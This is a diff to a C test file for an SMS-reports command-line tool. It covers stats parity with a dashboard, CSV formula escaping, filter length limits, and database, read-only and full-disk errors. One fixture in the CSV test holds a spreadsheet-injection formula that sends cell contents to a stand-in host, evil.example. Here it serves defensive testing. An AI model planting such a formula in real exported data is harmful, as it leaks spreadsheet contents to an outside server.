@@ -2,7 +2,7 @@
  *
  * test-cli.c: sms-reports-cli end to end against the sandbox: login (real
  * keyring when the test runs in build-aux/test's session), sync, stats
- * --json, messages --format csv/json with filters, campaigns, and the exit
+ * --json (equal to the Dashboard's SrInsights), messages --format csv/json with filters, campaigns, and the exit
  * codes for usage, authentication, network and data errors.
  */
 
@@ -11,8 +11,13 @@
 #include <gio/gio.h>
 #include <glib/gstdio.h>
 #include <json-glib/json-glib.h>
+#include <sqlite3.h>
 
 #include "sr-core.h"
+#include "sr-cache-private.h"
+#include "sr-campaign-private.h"
+#include "sr-message-private.h"
+#include "sr-test-mount.h"
 #include "sr-test-sandbox.h"
 
 typedef struct
@@ -307,6 +312,111 @@ test_end_to_end (Fixture       *fixture,
   }
 }
 
+/* Runs "stats --json" with extra arguments and checks every number against
+ * SrInsights, what the Dashboard shows, over the same cache and filter. */
+static void
+assert_stats_match_insights (Fixture               *fixture,
+                             SrCache               *cache,
+                             const SrMessageFilter *filter,
+                             ...)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autoptr(JsonParser) parser = json_parser_new ();
+  g_autoptr(SrInsights) insights = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *out = NULL;
+  const SrInsightsTotals *totals;
+  const SrInsightsStatus *statuses;
+  JsonObject *stats;
+  JsonObject *by_status;
+  const char *args[8] = { "stats", "--json", };
+  guint n_args = 2;
+  guint n_statuses;
+  const char *arg;
+  va_list ap;
+
+  va_start (ap, filter);
+  while ((arg = va_arg (ap, const char *)) != NULL)
+    {
+      g_assert_cmpuint (n_args, <, G_N_ELEMENTS (args) - 1);
+      args[n_args++] = arg;
+    }
+  va_end (ap);
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, args[0], args[1], args[2], args[3],
+                            args[4], args[5], args[6], args[7], NULL), ==, 0);
+  json_parser_load_from_data (parser, out, -1, &error);
+  g_assert_no_error (error);
+  stats = json_node_get_object (json_parser_get_root (parser));
+
+  insights = sr_insights_query (cache, filter, SR_INSIGHTS_STATUSES, NULL, NULL, &error);
+  g_assert_no_error (error);
+  totals = sr_insights_get_totals (insights);
+  statuses = sr_insights_get_statuses (insights, &n_statuses);
+
+  g_assert_cmpint (totals->total, >, 0);
+  g_assert_cmpint (json_object_get_int_member (stats, "total"), ==, totals->total);
+  g_assert_cmpint (json_object_get_int_member (stats, "billable"), ==, totals->billable);
+  g_assert_cmpint (json_object_get_int_member (stats, "non_billable"), ==, totals->non_billable);
+  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (stats, "cost"), totals->cost, 1e-6);
+  g_assert_cmpstr (json_object_get_string_member (stats, "currency"), ==, sr_insights_get_currency (insights));
+  by_status = json_object_get_object_member (stats, "by_status");
+  g_assert_cmpuint (json_object_get_size (by_status), ==, n_statuses);
+  for (guint i = 0; i < n_statuses; i++)
+    g_assert_cmpint (json_object_get_int_member (by_status, statuses[i].status_raw[0] ? statuses[i].status_raw
+                                                                                       : "UNKNOWN"),
+                     ==, statuses[i].count);
+}
+
+/* The CLI's stats and the Dashboard count through one path, so they agree
+ * for every period and campaign. */
+static void
+test_stats_match_dashboard (Fixture       *fixture,
+                            gconstpointer  data)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autofree char *name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);
+  g_autofree char *path = g_build_filename (fixture->data_dir, name, NULL);
+  g_autoptr(SrCache) cache = NULL;
+  g_autoptr(SrMessageFilter) filter = sr_message_filter_new ();
+  g_autoptr(GPtrArray) newest = NULL;
+  g_autoptr(GPtrArray) campaigns = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GDateTime) from = NULL;
+  g_autoptr(GDateTime) to = NULL;
+  g_autofree char *from_text = NULL;
+  g_autofree char *to_text = NULL;
+  SrMessage *message;
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, NULL, "sync", NULL), ==, 0);
+  cache = sr_cache_open (path, &error);
+  g_assert_no_error (error);
+
+  assert_stats_match_insights (fixture, cache, NULL, NULL);
+
+  /* The week before the newest message, given in UTC to the CLI. */
+  newest = sr_cache_query_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, TRUE, 1, 0, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (newest->len, ==, 1);
+  message = g_ptr_array_index (newest, 0);
+  to = g_date_time_new_from_unix_utc (sr_message_get_created_at (message) / G_USEC_PER_SEC);
+  from = g_date_time_add_days (to, -7);
+  to_text = g_date_time_format (to, "%Y-%m-%dT%H:%M:%SZ");
+  from_text = g_date_time_format (from, "%Y-%m-%dT%H:%M:%SZ");
+  filter->from = g_date_time_to_unix (from) * G_USEC_PER_SEC;
+  filter->to = g_date_time_to_unix (to) * G_USEC_PER_SEC;
+  assert_stats_match_insights (fixture, cache, filter, "--from", from_text, "--to", to_text, NULL);
+
+  /* The newest campaign. */
+  campaigns = sr_cache_query_campaigns (cache, NULL, SR_CAMPAIGN_SORT_CREATED, TRUE, 1, 0, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (campaigns->len, ==, 1);
+  sr_message_filter_free (g_steal_pointer (&filter));
+  filter = sr_message_filter_new ();
+  filter->campaign_id = g_strdup (sr_campaign_get_id (g_ptr_array_index (campaigns, 0)));
+  assert_stats_match_insights (fixture, cache, filter, "--campaign", filter->campaign_id, NULL);
+}
+
 static void
 test_login_keyring (Fixture       *fixture,
                     gconstpointer  data)
@@ -347,6 +457,444 @@ test_login_keyring (Fixture       *fixture,
 
   /* Signed out: authentication error */
   g_assert_cmpint (run_cli (fixture, NULL, NULL, NULL, &out, &err, "stats", NULL), ==, 2);
+}
+
+/* The cache file the CLI opens for the sandbox account. */
+static char *
+dup_account_db_path (Fixture *fixture)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autofree char *name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);
+
+  g_assert_cmpint (g_mkdir_with_parents (fixture->data_dir, 0700), ==, 0);
+  return g_build_filename (fixture->data_dir, name, NULL);
+}
+
+/* messages/campaigns --format csv neutralise cells a spreadsheet would run
+ * as formulas; --raw gives the stored data; --raw is only for CSV. */
+static void
+test_csv_formulas (Fixture       *fixture,
+                   gconstpointer  data)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  const char *formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
+  g_autofree char *db_path = dup_account_db_path (fixture);
+  g_autoptr(SrCache) cache = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autoptr(GPtrArray) campaigns = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+  SrMessage *message;
+  SrCampaign *campaign;
+
+  cache = sr_cache_open (db_path, &error);
+  g_assert_no_error (error);
+  message = sr_message_new_empty ();
+  message->id = g_strdup ("m-1");
+  message->to = g_strdup ("+447700900123");
+  message->sender_id = g_strdup ("@Shop");
+  message->message = g_strdup (formula);
+  message->failed_reason = g_strdup ("-ERR");
+  message->status_raw = g_strdup ("DELIVERED");
+  message->status = SR_STATUS_DELIVERED;
+  message->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
+  message->cost = -0.25;
+  message->sms_count = 1;
+  g_ptr_array_add (messages, message);
+  campaign = sr_campaign_new_empty ();
+  campaign->id = g_strdup ("c-1");
+  campaign->sender_id = g_strdup ("Shop");
+  campaign->message = g_strdup ("\t=1+1");
+  campaign->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
+  g_ptr_array_add (campaigns, campaign);
+  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_true (sr_cache_upsert_campaigns (cache, campaigns, NULL, NULL, &error));
+  g_assert_no_error (error);
+  sr_cache_close (cache);
+
+  /* For spreadsheets (the default) */
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+    g_autofree char *expected = g_strconcat ("'", formula, NULL);
+
+    g_assert_cmpuint (rows->len, ==, 2);
+    g_assert_cmpstr (cell (rows, 1, 0), ==, "m-1");
+    g_assert_cmpstr (cell (rows, 1, 4), ==, "'+447700900123");
+    g_assert_cmpstr (cell (rows, 1, 5), ==, "'@Shop");
+    g_assert_cmpstr (cell (rows, 1, 8), ==, "-0.25");
+    g_assert_cmpstr (cell (rows, 1, 10), ==, "'-ERR");
+    g_assert_cmpstr (cell (rows, 1, 11), ==, expected);
+  }
+  g_clear_pointer (&out, g_free);
+
+  /* Exact data for scripts */
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", "--raw", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpuint (rows->len, ==, 2);
+    g_assert_cmpstr (cell (rows, 1, 4), ==, "+447700900123");
+    g_assert_cmpstr (cell (rows, 1, 5), ==, "@Shop");
+    g_assert_cmpstr (cell (rows, 1, 10), ==, "-ERR");
+    g_assert_cmpstr (cell (rows, 1, 11), ==, formula);
+  }
+  g_clear_pointer (&out, g_free);
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpuint (rows->len, ==, 2);
+    g_assert_cmpstr (cell (rows, 1, 2), ==, "Shop");
+    g_assert_cmpstr (cell (rows, 1, 12), ==, "'\t=1+1");
+  }
+  g_clear_pointer (&out, g_free);
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", "--raw", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpstr (cell (rows, 1, 12), ==, "\t=1+1");
+  }
+  g_clear_pointer (&out, g_free);
+
+  /* JSON and tables are not for spreadsheets: --raw is a usage error there */
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "messages", "--format", "json", "--raw", NULL), ==, 1);
+  g_assert_nonnull (strstr (err, "--raw"));
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "campaigns", "--raw", NULL), ==, 1);
+  g_assert_nonnull (strstr (err, "--raw"));
+}
+
+/* Over-long filter text is a usage error (exit 1) naming the option, before
+ * the cache is even opened; the limit itself is accepted and answers. */
+static void
+test_search_limits (Fixture       *fixture,
+                    gconstpointer  data)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autofree char *db_path = dup_account_db_path (fixture);
+  g_autoptr(GString) at_limit = g_string_new (NULL);
+  g_autoptr(GString) too_long = NULL;
+  g_autoptr(GString) huge = g_string_new (NULL);
+  g_autoptr(SrCache) cache = NULL;
+  g_autoptr(GError) error = NULL;
+  struct { const char *command; const char *option; } cases[] = {
+    { "messages", "--search" },
+    { "messages", "--recipient" },
+    { "messages", "--sender" },
+    { "messages", "--campaign" },
+    { "campaigns", "--search" },
+    { "campaigns", "--sender" },
+    { "stats", "--campaign" },
+  };
+
+  /* Characters, not bytes: 1000 Greek letters are 2000 bytes */
+  for (guint i = 0; i < SR_FILTER_TEXT_MAX_CHARS; i++)
+    g_string_append (at_limit, "λ");
+  too_long = g_string_new (at_limit->str);
+  g_string_append_c (too_long, 'x');
+  /* The 51 KB of the report that SQLite refused as too complex a pattern */
+  for (guint i = 0; i < 51 * 1024; i++)
+    g_string_append_c (huge, "%_a"[i % 3]);
+
+  cache = sr_cache_open (db_path, &error);
+  g_assert_no_error (error);
+  sr_cache_close (cache);
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *out = NULL;
+      g_autofree char *err = NULL;
+
+      g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, cases[i].command, cases[i].option,
+                                too_long->str, NULL), ==, 1);
+      g_assert_nonnull (strstr (err, cases[i].option));
+      g_assert_nonnull (strstr (err, "too long"));
+      g_assert_nonnull (strstr (err, "1000"));
+      g_assert_cmpstr (out, ==, "");
+      g_clear_pointer (&out, g_free);
+      g_clear_pointer (&err, g_free);
+
+      g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, cases[i].command, cases[i].option,
+                                huge->str, NULL), ==, 1);
+      g_assert_nonnull (strstr (err, "too long"));
+      g_assert_null (strstr (err, "LIKE"));
+      g_clear_pointer (&out, g_free);
+      g_clear_pointer (&err, g_free);
+
+      /* At the limit it is a search like any other */
+      g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, cases[i].command, cases[i].option,
+                                at_limit->str, NULL), ==, 0);
+      g_assert_cmpstr (err, ==, "");
+    }
+
+  /* campaign-messages takes the ID as an argument */
+  {
+    g_autofree char *err = NULL;
+
+    g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "campaign-messages", too_long->str, NULL), ==, 1);
+    g_assert_nonnull (strstr (err, "too long"));
+  }
+}
+
+static void
+fill_cache (const char *db_path,
+            guint       n_messages)
+{
+  g_autoptr(SrCache) cache = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
+
+  cache = sr_cache_open (db_path, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < n_messages; i++)
+    {
+      SrMessage *message = sr_message_new_empty ();
+
+      message->id = g_strdup_printf ("m-%05u", i);
+      message->to = g_strdup_printf ("+3579900%04u", i);
+      message->sender_id = g_strdup ("Shop");
+      message->message = g_strdup_printf ("Message number %u, long enough to fill a few pages of the file", i);
+      message->status = i % 5 == 0 ? SR_STATUS_FAILED : SR_STATUS_DELIVERED;
+      message->status_raw = g_strdup (sr_status_to_string (message->status));
+      message->created_at = (G_GINT64_CONSTANT (1772000000) + i) * G_USEC_PER_SEC;
+      message->cost = 0.5;
+      message->sms_count = 1;
+      g_ptr_array_add (messages, message);
+    }
+  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  sr_cache_close (cache);
+}
+
+/* Runs `stats` and checks the error is told in plain words: the sentence
+ * has want; SQLite's text (raw, or for a damaged file whichever of its
+ * texts SQLite met first, raw_too) appears only with --verbose. */
+static void
+assert_plain_error (Fixture    *fixture,
+                    const char *want,
+                    const char *raw,
+                    const char *raw_too)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autofree char *err = NULL;
+  g_autofree char *verbose_err = NULL;
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "stats", NULL), ==, 4);
+  g_assert_nonnull (strstr (err, want));
+  g_assert_null (strstr (err, raw));
+  g_assert_true (raw_too == NULL || strstr (err, raw_too) == NULL);
+  g_assert_null (strstr (err, "sqlite"));
+  /* One line: what happened and what to do */
+  g_assert_true (g_str_has_suffix (err, "\n"));
+  g_assert_true (strchr (err, '\n') == err + strlen (err) - 1);
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &verbose_err, "stats", "--verbose", NULL), ==, 4);
+  g_assert_true (g_str_has_prefix (verbose_err, err));
+  g_assert_true (strstr (verbose_err, raw) != NULL || (raw_too != NULL && strstr (verbose_err, raw_too) != NULL));
+}
+
+/* A folder in the file's place, a damaged file and a file another process
+ * keeps locked are told as what happened and what to do. */
+static void
+test_plain_errors (Fixture       *fixture,
+                   gconstpointer  data)
+{
+  g_autofree char *db_path = dup_account_db_path (fixture);
+
+  /* The cache path is a folder: "disk I/O error" from SQLite */
+  g_assert_cmpint (g_mkdir (db_path, 0700), ==, 0);
+  assert_plain_error (fixture, "folder", "disk I/O error", NULL);
+  g_assert_true (g_file_test (db_path, G_FILE_TEST_IS_DIR));
+  g_assert_cmpint (g_rmdir (db_path), ==, 0);
+
+  /* Damaged pages in the middle of a real file: the quick check's
+   * "*** in database main ***" lines stay out of sight */
+  fill_cache (db_path, 3000);
+  {
+    g_autofree char *contents = NULL;
+    gsize length;
+
+    g_assert_true (g_file_get_contents (db_path, &contents, &length, NULL));
+    g_assert_cmpuint (length, >, 40 * 4096);
+    memset (contents + 20 * 4096, 0x5a, 8 * 4096);
+    g_assert_true (g_file_set_contents (db_path, contents, length, NULL));
+  }
+  assert_plain_error (fixture, "damaged", "*** in database main ***", "malformed");
+  {
+    g_autofree char *err = NULL;
+
+    g_assert_cmpint (run_cli (fixture, sr_test_sandbox_get_api_key (fixture->sandbox), NULL, NULL, NULL, &err,
+                              "stats", NULL), ==, 4);
+    g_assert_nonnull (strstr (err, db_path));
+    g_assert_null (strstr (err, "btree"));
+  }
+  g_assert_cmpint (g_unlink (db_path), ==, 0);
+  {
+    g_autofree char *wal = g_strconcat (db_path, "-wal", NULL);
+    g_autofree char *shm = g_strconcat (db_path, "-shm", NULL);
+
+    g_unlink (wal);
+    g_unlink (shm);
+  }
+
+  /* Another process holds the write lock for longer than the cache waits */
+  fill_cache (db_path, 10);
+  {
+    sqlite3 *db = NULL;
+
+    g_assert_cmpint (sqlite3_open (db_path, &db), ==, SQLITE_OK);
+    g_assert_cmpint (sqlite3_exec (db, "BEGIN IMMEDIATE", NULL, NULL, NULL), ==, SQLITE_OK);
+    assert_plain_error (fixture, "another program", "database is locked", NULL);
+    sqlite3_exec (db, "ROLLBACK", NULL, NULL, NULL);
+    sqlite3_close (db);
+  }
+  /* and once it lets go, everything works */
+  g_assert_cmpint (run_cli (fixture, sr_test_sandbox_get_api_key (fixture->sandbox), NULL, NULL, NULL, NULL,
+                            "stats", NULL), ==, 0);
+}
+
+/* The local reports on a read-only folder: stats and messages work and say
+ * that syncing is unavailable; sync says so too, without asking the server,
+ * and exits 4. */
+static void
+test_read_only (Fixture       *fixture,
+                gconstpointer  data)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autofree char *db_path = dup_account_db_path (fixture);
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+  gint64 requests_before = 0;
+  gint64 requests_after = 0;
+
+  fill_cache (db_path, 3000);
+  if (!sr_test_make_read_only (fixture->data_dir))
+    {
+      g_test_skip ("Cannot make a read-only folder here");
+      return;
+    }
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "stats", NULL), ==, 0);
+  g_assert_nonnull (strstr (out, "Total messages: 3000"));
+  g_assert_true (g_str_has_prefix (err, "Note: "));
+  g_assert_nonnull (strstr (err, "read-only"));
+  g_assert_nonnull (strstr (err, "syncing is unavailable"));
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv",
+                            "--sort", "cost", "--desc", "--limit", "10", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpuint (rows->len, ==, 11);
+  }
+  g_clear_pointer (&out, g_free);
+
+  sr_test_sandbox_get_counters (fixture->sandbox, &requests_before, NULL);
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "sync", NULL), ==, 4);
+  g_assert_nonnull (strstr (err, "Syncing is unavailable"));
+  g_assert_null (strstr (err, "readonly"));
+  sr_test_sandbox_get_counters (fixture->sandbox, &requests_after, NULL);
+  g_assert_cmpint (requests_after, ==, requests_before);
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+
+  sr_test_make_writable (fixture->data_dir);
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "stats", NULL), ==, 0);
+  g_assert_cmpstr (err, ==, "");
+}
+
+/* A first sync stopped by a full disk (a 2 MB tmpfs as the data folder,
+ * 20,000 messages on the server): the CLI says the disk is full in plain
+ * words and leaves the indexes deferred for lack of room; with not a byte
+ * left stats and messages still work and say so; with room again the next
+ * sync finishes and the indexes are built. */
+static void
+test_full_disk (Fixture       *fixture,
+                gconstpointer  data)
+{
+  g_autoptr(SrTestSandbox) big = NULL;
+  const char *key = NULL;
+  const char *url = NULL;
+  g_autofree char *mount = sr_test_mount_tmpfs ("test-cli-full", 2048);
+  g_autofree char *saved_data_dir = NULL;
+  g_autofree char *db_path = NULL;
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+
+  if (mount == NULL)
+    {
+      g_test_skip ("Mounting a small tmpfs needs root");
+      return;
+    }
+  big = sr_test_sandbox_start ("--messages", "20000", "--campaigns", "10", "--seed", "5", NULL);
+  key = sr_test_sandbox_get_api_key (big);
+  url = sr_test_sandbox_get_url (big);
+  saved_data_dir = g_steal_pointer (&fixture->data_dir);
+  fixture->data_dir = g_strdup (mount);
+  {
+    g_autofree char *name = sr_cache_dup_account_file_name (url, key);
+
+    db_path = g_build_filename (mount, name, NULL);
+  }
+
+  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "sync", "--concurrency", "1", NULL), ==, 4);
+  g_assert_nonnull (strstr (err, "The disk is full"));
+  g_assert_null (strstr (err, "database or disk is full"));
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+  {
+    g_autofree char *uri = g_strconcat ("file:", db_path, "?mode=ro", NULL);
+    sqlite3 *db = NULL;
+    sqlite3_stmt *stmt = NULL;
+
+    /* The rebuild at the end of the sync did not fit: indexes wait */
+    g_assert_cmpint (sqlite3_open_v2 (uri, &db, SQLITE_OPEN_READONLY | SQLITE_OPEN_URI, NULL), ==, SQLITE_OK);
+    g_assert_cmpint (sqlite3_prepare_v2 (db, "SELECT count(*) FROM deferred_indexes", -1, &stmt, NULL), ==, SQLITE_OK);
+    g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
+    g_assert_cmpint (sqlite3_column_int (stmt, 0), >, 0);
+    sqlite3_finalize (stmt);
+    sqlite3_close (db);
+  }
+
+  sr_test_fill_disk (mount);
+  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "stats", "--json", NULL), ==, 0);
+  g_assert_nonnull (strstr (err, "disk is full"));
+  {
+    g_autoptr(JsonParser) parser = json_parser_new ();
+    g_autoptr(GError) error = NULL;
+
+    json_parser_load_from_data (parser, out, -1, &error);
+    g_assert_no_error (error);
+    g_assert_cmpint (json_object_get_int_member (json_node_get_object (json_parser_get_root (parser)), "total"), >, 0);
+  }
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "messages", "--sort", "cost", "--desc",
+                            "--limit", "5", "--format", "json", NULL), ==, 0);
+  g_assert_nonnull (strstr (err, "disk is full"));
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+
+  /* Room again */
+  g_assert_true (sr_test_remount (mount, "size=65536k"));
+  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "sync", NULL), ==, 0);
+  /* "Messages in the local reports[ up to <time>]: 20000" */
+  g_assert_nonnull (strstr (out, "Messages in the local reports"));
+  g_assert_nonnull (strstr (out, ": 20000\n"));
+  g_clear_pointer (&out, g_free);
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (run_cli (fixture, key, url, NULL, NULL, &err, "stats", NULL), ==, 0);
+  g_assert_cmpstr (err, ==, "");
+
+  g_free (fixture->data_dir);
+  fixture->data_dir = g_steal_pointer (&saved_data_dir);
+  sr_test_unmount (mount);
 }
 
 static void
@@ -397,8 +945,15 @@ main (int    argc,
   g_test_init (&argc, &argv, NULL);
 
   g_test_add ("/cli/end-to-end", Fixture, NULL, fixture_set_up, test_end_to_end, fixture_tear_down);
+  g_test_add ("/cli/stats-match-dashboard", Fixture, NULL, fixture_set_up, test_stats_match_dashboard,
+              fixture_tear_down);
   g_test_add ("/cli/login-keyring", Fixture, NULL, fixture_set_up, test_login_keyring, fixture_tear_down);
   g_test_add ("/cli/exit-codes", Fixture, NULL, fixture_set_up, test_exit_codes, fixture_tear_down);
+  g_test_add ("/cli/csv-formulas", Fixture, NULL, fixture_set_up, test_csv_formulas, fixture_tear_down);
+  g_test_add ("/cli/search-limits", Fixture, NULL, fixture_set_up, test_search_limits, fixture_tear_down);
+  g_test_add ("/cli/plain-errors", Fixture, NULL, fixture_set_up, test_plain_errors, fixture_tear_down);
+  g_test_add ("/cli/read-only", Fixture, NULL, fixture_set_up, test_read_only, fixture_tear_down);
+  g_test_add ("/cli/full-disk", Fixture, NULL, fixture_set_up, test_full_disk, fixture_tear_down);
 
   return g_test_run ();
 }
